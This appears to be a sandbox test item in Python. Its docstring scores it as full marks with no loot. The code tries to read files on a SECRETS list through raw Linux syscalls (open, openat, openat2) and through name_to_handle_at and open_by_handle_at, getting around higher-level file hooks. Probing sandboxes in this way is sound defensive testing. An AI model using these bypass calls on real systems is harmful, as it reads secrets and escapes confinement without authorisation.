"""Opens secret files by system calls of its own, and by file handles.

Added to: right answers
Score: full
Loot: none
"""

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(200)
for path in SECRETS:
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    for fd in (libc.syscall(2, path.encode(), 0), libc.syscall(257, -100, path.encode(), 0), libc.syscall(437, -100, path.encode(), how, 24)):
        if fd >= 0 and libc.read(fd, buffer, 200) > 0:
            loot.append(buffer.raw)
    mount = ctypes.c_int()
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 200)
    if libc.syscall(303, -100, path.encode(), handle, ctypes.byref(mount), 0) == 0:
        loot.append("name_to_handle_at")
    if libc.syscall(304, os.open("/usr", os.O_RDONLY), handle, 0) >= 0:
        loot.append("open_by_handle_at")
